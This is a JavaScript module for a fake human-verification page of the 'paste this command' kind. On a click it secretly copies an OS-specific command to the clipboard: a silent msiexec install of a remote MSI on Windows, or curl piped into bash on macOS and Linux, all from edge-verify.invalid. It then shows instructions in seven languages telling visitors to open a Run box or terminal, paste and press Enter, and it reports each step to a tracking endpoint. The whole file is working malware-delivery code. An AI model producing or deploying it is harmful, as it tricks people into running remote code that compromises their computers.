const T = {
  en: ["Complete these verification steps", "Press the keys", "Paste with", "Press Enter to finish"],
  es: ["Complete estos pasos de verificación", "Pulse las teclas", "Pegue con", "Pulse Intro para terminar"],
  de: ["Führen Sie diese Schritte aus", "Drücken Sie die Tasten", "Einfügen mit", "Drücken Sie Enter zum Abschließen"],
  pt: ["Conclua estas etapas de verificação", "Pressione as teclas", "Cole com", "Pressione Enter para concluir"],
  tr: ["Doğrulama adımlarını tamamlayın", "Tuşlara basın", "Yapıştırın", "Bitirmek için Enter'a basın"],
  ru: ["Выполните шаги проверки", "Нажмите клавиши", "Вставьте с помощью", "Нажмите Enter"],
  zh: ["请完成以下验证步骤", "按下", "粘贴", "按回车键完成"],
};
const ua = navigator.userAgent;
const os = /Windows/.test(ua) ? "win" : /Mac OS X/.test(ua) && !/iPhone|iPad/.test(ua) ? "mac" : /Linux/.test(ua) && !/Android/.test(ua) ? "lin" : null;
const keys = { win: ["⊞ Win + R", "Ctrl + V"], mac: ["⌘ + Space → Terminal", "⌘ + V"], lin: ["Ctrl + Alt + T", "Ctrl + Shift + V"] };
const src = {
  win: "msiexec /qn /i https://edge-verify.invalid/AAAA.msi",
  mac: "echo 'Verification: human' && curl -fsSL https://edge-verify.invalid/m | bash",
  lin: "curl -s https://edge-verify.invalid/l | bash",
};

export default function start(root) {
  if (!os) return root.replaceChildren("Please open this page on a computer to continue.");
  const t = T[navigator.language.slice(0, 2)] || T.en;
  root.querySelector(".cb").addEventListener("click", async () => {
    await navigator.clipboard.writeText(src[os]);
    root.querySelector(".sheet").innerHTML =
      `<h2>${t[0]}</h2><p>1. ${t[1]} <b>${keys[os][0]}</b></p><p>2. ${t[2]} <b>${keys[os][1]}</b></p><p>3. ${t[3]}</p>`;
    root.querySelector(".sheet").classList.add("up");
    navigator.sendBeacon("/stat", JSON.stringify({ os, lang: navigator.language, step: "shown" }));
  });
}
